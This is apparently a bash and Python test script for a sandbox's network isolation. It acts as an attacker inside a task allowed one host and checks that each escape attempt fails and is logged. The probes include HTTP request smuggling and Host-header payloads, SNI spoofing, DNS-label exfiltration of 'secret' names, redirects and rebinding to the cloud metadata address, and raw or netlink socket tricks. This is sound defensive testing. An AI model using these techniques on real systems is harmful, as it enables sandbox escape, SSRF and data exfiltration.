#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# From inside a task, as an attacker who has one allowed name: nothing else is reached, whatever it calls
# itself, and each attempt that the relay or the kernel's log sees leaves an event.
# needs: curl jq
# timeout: 240
# shellcheck source=tests/lib.sh
. "$(dirname "${BASH_SOURCE[0]}")/../lib.sh"
# shellcheck source=tests/network.bash
. "$TESTS/network.bash"
work

cat >attack.py <<'P'
# Helpers for the attacks; each prints nothing when it gets nowhere and fails when it gets somewhere.
import os, socket, ssl, struct, sys, time
HTTP, HTTPS, ECHO = int(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3])


def refused(host, port, family=socket.AF_INET, send=b'GET / HTTP/1.0\r\n\r\n'):
    """A connection that is cut before an answer comes."""
    s = socket.socket(family)
    s.settimeout(10)
    try:
        s.connect((host, port))
        s.sendall(send)
        got = s.recv(1000)
    except OSError:
        return
    finally:
        s.close()
    assert got == b'', (host, port, got)


def query(name, server='8.8.8.8', kind=1, tcp=False, family=socket.AF_INET):
    """The code of a DNS server's answer, and how many records it has."""
    labels = b''.join(bytes([len(x)]) + x for x in name)
    q = b'\x12\x34\x01\0\0\1\0\0\0\0\0\0' + labels + b'\0' + struct.pack('>HH', kind, 1)
    s = socket.socket(family, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM)
    s.settimeout(10)
    s.connect((server, 53))
    s.sendall(struct.pack('>H', len(q)) + q if tcp else q)
    a = s.recv(4096)
    if tcp:
        a = a[2:]
    return a[3] & 15, struct.unpack('>H', a[6:8])[0]


def http(data, host='good.test', more=b''):
    """What comes back for these bytes."""
    s = socket.create_connection((host, HTTP), 10)
    s.settimeout(10)
    got = b''
    try:
        s.sendall(data)
        if more:
            time.sleep(0.2)
            s.sendall(more)
        while True:
            part = s.recv(65536)
            if not part:
                break
            got += part
    except OSError:
        pass
    return got
P
# attack NAME PYTHON [OPTION...]: runs the lines in a task that may reach good.test.
attack() {
  local name=$1 lines=$2
  shift 2
  run_net "$name" --allow "good.test:$http,private" --allow "good.test:$https,private" --allow "*.wild.test:$http,private" "$@" \
    -- python3 -c "exec(open('attack.py').read())"$'\n'"$lines" "$http" "$https" "$echo"
  [ "$code" = 0 ] || fail "attack $name: $out $err"
}
expect_denied() { # TASK TEXT
  denied "$1" | grep -qF -- "$2" || fail "no event of '$2': $(denied "$1")"
}
no_request() { if grep -qF -- "$1" "$NET/http.log"; then fail "it arrived outside: $1"; fi; }
no_lookup() { if grep -qF -- "$1" "$NET/dns.log"; then fail "it was looked up outside: $1"; fi; }

step 'addresses, of both families, on any port'
attack addresses "
refused('93.184.216.34', 80); refused('93.184.216.34', 6379); refused('1.1.1.1', 443)
refused('2606:4700::1111', 443, socket.AF_INET6)
refused('::ffff:93.184.216.35', 80, socket.AF_INET6)
refused('::ffff:10.0.0.1', 80, socket.AF_INET6); refused('64:ff9b::a00:1', 80, socket.AF_INET6)
refused('10.0.0.1', 22); refused('169.254.169.254', 80); refused('192.168.1.1', 80); refused('fe80::1%lo', 80, socket.AF_INET6)
"
for target in '93.184.216.34 80' '93.184.216.34 6379' '1.1.1.1 443' '2606:4700::1111 443' '93.184.216.35 80' '10.0.0.1 22' '169.254.169.254 80' \
  '64:ff9b::a00:1 80'; do expect_denied addresses "network $target"; done
expect_has "$(net_events addresses denied '[.target, .hint] | join(" ")')" '93.184.216.34 --allow 93.184.216.34:6379'
expect_eq "$(net_events addresses denied 'select(.target == "169.254.169.254") | .hint')" null

step 'addresses in odd spellings'
attack spellings "
import subprocess
for odd in ('1572395042', '0135.0270.0330.042', '0x5db8d822', '93.12113954'):
    r = subprocess.run(['curl', '-sS', '--max-time', '5', f'http://{odd}/'], capture_output=True)
    assert r.returncode != 0, odd
"
expect_denied spellings 'network 93.184.216.34 80'
expect_error 125 'reads as a number' codexos run --allow 0x7f000001 -- true
expect_error 125 'reads as a number' codexos run --allow 127.1 -- true

step 'DNS: other servers, other transports, other types'
attack dns "
name = [b'evil', b'test']
assert query(name) == (5, 0), query(name)
assert query(name, tcp=True) == (5, 0)
assert query(name, '127.0.0.53') == (5, 0)
assert query(name, '2001:4860:4860::8888', family=socket.AF_INET6) == (5, 0)
assert query(name, '2001:4860:4860::8888', tcp=True, family=socket.AF_INET6) == (5, 0)
for kind in (16, 65, 64, 255, 252, 33): assert query(name, kind=kind) == (5, 0), kind
for kind in (28, 65, 64, 16): assert query([b'good', b'test'], kind=kind) == (0, 0), kind
assert query([b'good', b'test']) == (0, 1)
"
expect_denied dns 'dns evil.test 0'
no_lookup evil.test

step 'names that are not what they seem'
attack names "
for name in ([b'evil\0', b'good', b'test'], [b'good.test'], [b'evil.good', b'test'], [b'good', b'test\0'], [b'xgood', b'test'],
             [b'good', b'test', b'evil', b'test'], [b'good', b'test', b'test'], [b'good%2e', b'test'], [b'a@good', b'test'],
             [b'a_b', b'wild', b'test'], [b'wild', b'test'], [b'xwild', b'test'], [b'1', b'2', b'3', b'4'], [b'127', b'1']):
    code, answers = query(name)
    assert code == 5 and answers == 0, (name, code, answers)
assert query([b'GOOD', b'Test']) == (0, 1)
"
[ "$(net_events names denied | wc -l)" -ge 12 ] || fail "events: $(denied names)"

step 'exfiltration by label: a lookup alone goes nowhere, and names below a wildcard have a budget'
attack labels "
refused_names = 0
for i in range(300):
    code, answers = query([b'secret%d' % i, b'wild', b'test'])
    refused_names += code == 5
assert refused_names > 150, refused_names
for i in range(20): assert query([b'secret%d' % i, b'evil', b'test'])[0] == 5
"
no_lookup secret
expect_has "$(net_events labels denied .detail)" 'too many different names below wild.test'

step 'TLS for another name'
attack sni "
context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
for name in ('evil.test', 'good.test.evil.test', 'a.good.test', 'good.test.'):
    s = socket.create_connection(('good.test', HTTPS), 10)
    try:
        context.wrap_socket(s, server_hostname=name)
        raise SystemExit('a handshake for ' + name)
    except (ssl.SSLError, OSError):
        pass
s = context.wrap_socket(socket.create_connection(('good.test', HTTPS), 10), server_hostname='GOOD.test')
"
expect_denied sni "network good.test $https"
expect_has "$(net_events sni denied .detail)" 'TLS asks for evil.test, not good.test'
no_request 'sni evil.test'
no_request 'sni good.test.evil.test'
no_request 'sni a.good.test'

step 'plain HTTP for another host, in every position'
attack host "
good = b'GET /hello HTTP/1.1\r\nHost: good.test\r\n\r\n'
def evil(data, **more):
    got = http(data, **more)
    assert b'hello from evil' not in got and b'from good.test.evil' not in got, got
    return got
got = evil(b'GET /hello1 HTTP/1.1\r\nHost: evil.test\r\n\r\n')
assert got.startswith(b'HTTP/1.1 403') and b'evil.test' in got, got
evil(b'GET /hello2 HTTP/1.1\r\nHost: good.test\r\nHost: evil.test\r\n\r\n')
evil(b'GET http://evil.test/hello3 HTTP/1.1\r\nHost: good.test\r\n\r\n')
evil(b'GET http://evil.test/hello4 HTTP/1.1\r\nHost: evil.test\r\n\r\n')
evil(b'CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test\r\n\r\n')
evil(b'CONNECT 127.0.0.1:%d HTTP/1.1\r\nHost: good.test\r\n\r\n' % ECHO)
evil(good + b'GET /hello5 HTTP/1.1\r\nHost: evil.test\r\n\r\n')
evil(good, more=b'GET /hello6 HTTP/1.1\r\nHost: evil.test\r\n\r\n')
evil(b'POST /p HTTP/1.1\r\nHost: good.test\r\nContent-Length: 3\r\n\r\nabcGET /hello7 HTTP/1.1\r\nHost: evil.test\r\n\r\n')
evil(b'POST /p HTTP/1.1\r\nHost: good.test\r\nContent-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /hello8 HTTP/1.1\r\nHost: evil.test\r\n\r\n')
evil(b'GET /hello9 HTTP/1.1\nHost: evil.test\n\n')
evil(b'\r\n\r\nGET /hello10 HTTP/1.1\r\nHost: evil.test\r\n\r\n')
evil(b'get /hello11 http/1.1\r\nhost: evil.test\r\n\r\n')
evil(b'GET /hello12 HTTP/1.1\r\nHost: good.test\r\nUpgrade: h2c\r\nConnection: Upgrade\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n')
evil(b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n')
evil(b'GET /hello13 HTTP/1.1\r\nHost: good.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\nGET /hello14 HTTP/1.1\r\nHost: evil.test\r\n\r\n')
evil(b'GET /hello15 HTTP/1.1\r\nHost: evil.test\0.good.test\r\n\r\n')
evil(b'GET /hello16 HTTP/1.1\r\nHost: good.test.evil.test\r\n\r\n')
evil(b'GET /hello17 HTTP/1.1\r\nHost: evil.test#@good.test\r\n\r\n')
evil(b'GET /hello18 HTTP/1.1\r\nX: y\r\n Host: good.test\r\nHost: evil.test\r\n\r\n')
for byte in good: pass
s = socket.create_connection(('good.test', HTTP), 10)
for byte in b'GET /hello19 HTTP/1.1\r\nHost: evil.test\r\n\r\n':
    try: s.sendall(bytes([byte]))
    except OSError: break
assert b'hello from good.test' in http(b'GET /hello HTTP/1.1\r\nHost: good.test\r\nConnection: close\r\n\r\n')
assert http(b'GET /up HTTP/1.1\r\nHost: good.test\r\nUpgrade: echo\r\nConnection: Upgrade\r\n\r\nline\n').endswith(b'line\n')
"
no_request evil.test
expect_has "$(net_events host denied .detail)" 'the request is for host evil.test, not good.test'
expect_has "$(net_events host denied .detail)" 'more than one Host header'
expect_has "$(net_events host denied .detail)" 'HTTP/2 without TLS'

step 'a redirect to the metadata service'
run_net redirect --allow "good.test:$http,private" -- curl -sSL --max-time 10 "http://good.test:$http/to-metadata"
expect_ne "$code" 0
expect_denied redirect 'network 169.254.169.254 80'

step 'names that lead to where no rule leads: metadata, private networks, mapped addresses, rebinding'
run_net metadata --allow metadata.test,private --allow private.test --allow mapped.test --allow rebind.test -- sh -c '
  for name in metadata private mapped; do curl -sS --max-time 5 http://$name.test/ && exit 1; done
  curl -sS --max-time 2 http://rebind.test/ # the public address: answered or not, as the machine has it
  curl -sS --max-time 5 http://rebind.test/ && exit 1
  exit 0'
expect_eq "$code" 0 "$out $err"
details=$(net_events metadata denied .detail)
expect_has "$details" 'metadata.test leads to 169.254.169.254 (cloud metadata)'
expect_has "$details" 'private.test leads to 10.11.12.13 (private network)'
expect_has "$details" 'mapped.test leads to ::ffff:127.0.0.1 (loopback)'
expect_has "$details" 'rebind.test leads to 127.0.0.1 (loopback)'

step 'UDP, ICMP, raw and packet sockets, netlink'
attack sockets "
import errno
def fails(*args, codes):
    try: socket.socket(*args); raise SystemExit('a socket: %r' % (args,))
    except OSError as e: assert e.errno in codes, (args, e)
fails(socket.AF_INET, socket.SOCK_RAW, 1, codes=(errno.EPERM, errno.EACCES))
fails(socket.AF_INET6, socket.SOCK_RAW, 58, codes=(errno.EPERM, errno.EACCES))
fails(socket.AF_INET, socket.SOCK_RAW, 255, codes=(errno.EPERM, errno.EACCES))
fails(socket.AF_PACKET, socket.SOCK_RAW, 0, codes=(errno.EPERM, errno.EAFNOSUPPORT))
fails(socket.AF_PACKET, socket.SOCK_DGRAM, 0, codes=(errno.EPERM, errno.EAFNOSUPPORT))
for protocol in (12, 6, 4, 16, 9, 20): fails(socket.AF_NETLINK, socket.SOCK_RAW, protocol, codes=(errno.EPERM, errno.EAFNOSUPPORT, errno.EPROTONOSUPPORT))
for family in (40, 38, 29, 44): fails(family, socket.SOCK_STREAM, 0, codes=(errno.EAFNOSUPPORT, errno.EPERM))
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.connect(('93.184.216.34', 443))
for _ in range(2):
    try: u.send(b'x'); time.sleep(0.1)
    except OSError: break
else: raise SystemExit('UDP was not refused')
for option in ((socket.SOL_IP, 19), (socket.SOL_SOCKET, 36)):  # IP_TRANSPARENT, SO_MARK
    s = socket.socket()
    try: s.setsockopt(*option, 1); raise SystemExit('option %r' % (option,))
    except PermissionError: pass
# The routes and lo cannot be changed.
import struct
n = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
def ask(kind, body):
    n.send(struct.pack('=IHHII', 16 + len(body), kind, 5, 1, 0) + body)
    return -struct.unpack('=i', n.recv(4096)[16:20])[0]
assert ask(25, struct.pack('=BBBBBBBBI', 2, 0, 0, 0, 255, 3, 254, 2, 0)) == errno.EPERM       # delete the route
assert ask(16, struct.pack('=BxHiII', 0, 0, 1, 0, 1)) == errno.EPERM                            # lo down
assert ask(20, struct.pack('=BBBBI', 2, 32, 0, 0, 1) + struct.pack('=HHI', 8, 2, 0x01020304)) == errno.EPERM
"
expect_denied sockets 'network 93.184.216.34 443'

step 'the relay and its ports'
attack relay "
refused('127.255.255.77', 1); refused('::1', 1, socket.AF_INET6)
import errno
for family, kind, at in ((socket.AF_INET, socket.SOCK_STREAM, ('127.255.255.77', 1)), (socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.53', 53)),
                         (socket.AF_INET, socket.SOCK_DGRAM, ('127.0.0.53', 53)), (socket.AF_INET, socket.SOCK_STREAM, ('0.0.0.0', 1))):
    for option in (0, socket.SO_REUSEADDR, socket.SO_REUSEPORT):
        s = socket.socket(family, kind)
        if option: s.setsockopt(socket.SOL_SOCKET, option, 1)
        try:
            s.bind(at)
            if kind == socket.SOCK_STREAM: s.listen()
            raise SystemExit('took over %r' % (at,))
        except OSError as e: assert e.errno == errno.EADDRINUSE, e
refused('198.18.77.77', 443)
"
expect_denied relay 'network 127.255.255.77 1'
expect_denied relay 'network 198.18.77.77 443'

step 'sockets of the host, of the daemon, and of another task'
python3 -c "
import socket, time
s = socket.socket(socket.AF_UNIX); s.bind('\0codexos-test-$$'); s.listen()
p = socket.socket(socket.AF_UNIX); p.bind('$HOME/host.sock'); p.listen()
time.sleep(100)" &
started+=($!)
wait_until 5 test -S "$HOME/host.sock"
codexos run -d --name other --allow "good.test:$http,private" -- python3 -c "
import socket, time
l = socket.socket(); l.bind(('0.0.0.0', 7777)); l.listen(); print('up', flush=True); time.sleep(100)" >/dev/null
wait_until 10 sh -c 'codexos logs other | grep -q up'
attack unix "
def nowhere(family, at):
    try: socket.socket(family).connect(at); raise SystemExit('connected to %r' % (at,))
    except OSError: pass
nowhere(socket.AF_UNIX, '\0codexos-test-$$')
nowhere(socket.AF_UNIX, '$HOME/host.sock')
nowhere(socket.AF_UNIX, '$CODEXOS_HOME/codexosd.sock')
nowhere(socket.AF_INET, ('127.0.0.1', 7777))
nowhere(socket.AF_INET, ('127.0.0.1', ECHO))
refused('198.18.0.1', 7777)
"
codexos kill other >/dev/null

step 'a helper inside that relays for another program gains nothing'
attack helper "
import threading
l = socket.socket(); l.bind(('127.0.0.1', 3128)); l.listen()
def relay():
    c, _ = l.accept(); c.recv(1000)
    try:
        o = socket.create_connection(('93.184.216.34', 443), 5); o.sendall(b'x'); c.sendall(o.recv(10) or b'cut')
    except OSError: c.sendall(b'cut')
threading.Thread(target=relay, daemon=True).start()
c = socket.create_connection(('127.0.0.1', 3128)); c.sendall(b'CONNECT 93.184.216.34:443 HTTP/1.1\r\n\r\n')
assert c.recv(10) == b'cut'
"
expect_denied helper 'network 93.184.216.34 443'

step 'a namespace of its own inside (nested) has no way out either, and cannot undo the redirection'
if command -v unshare >/dev/null; then
  attack nested "
import subprocess
inner = '''
import socket
for family, at in ((socket.AF_INET, ('93.184.216.34', 80)), (socket.AF_INET, ('127.0.0.53', 53)), (socket.AF_INET, ('198.18.0.2', $http))):
    s = socket.socket(family); s.settimeout(3)
    try: s.connect(at); raise SystemExit('connected to %r' % (at,))
    except OSError: pass
'''
r = subprocess.run(['unshare', '-Urn', sys.executable, '-c', inner], capture_output=True)
assert r.returncode == 0, r.stderr
same = '''
import errno, socket, struct
try: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12); raise SystemExit('netfilter')
except OSError as e: assert e.errno != 0
n = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
body = struct.pack('=BBBBBBBBI', 2, 0, 0, 0, 255, 3, 254, 2, 0)
n.send(struct.pack('=IHHII', 16 + len(body), 25, 5, 1, 0) + body)
assert -struct.unpack('=i', n.recv(4096)[16:20])[0] == errno.EPERM
s = socket.socket(); s.settimeout(5)
try: s.connect(('93.184.216.36', 80)); s.sendall(b'x'); assert s.recv(1) == b''
except OSError: pass
'''
r = subprocess.run(['unshare', '-Ur', sys.executable, '-c', same], capture_output=True)
assert r.returncode == 0, r.stderr
" --seccomp nested
  expect_denied nested 'network 93.184.216.36 80'
fi

step 'a flood of refusals does not fill the store'
attack flood "
for i in range(6000):
    s = socket.socket(); s.setblocking(False); s.connect_ex(('93.184.%d.%d' % (i // 250, i % 250), 9)); s.close()
for i in range(6000): query([b'flood%d' % i, b'evil', b'test'])
"
[ "$(net_events flood denied | wc -l)" -le 4100 ] || fail "$(net_events flood denied | wc -l) events"
[ "$(field flood .net.denials)" -gt 6000 ] || fail "counted: $(field flood .net.denials)"
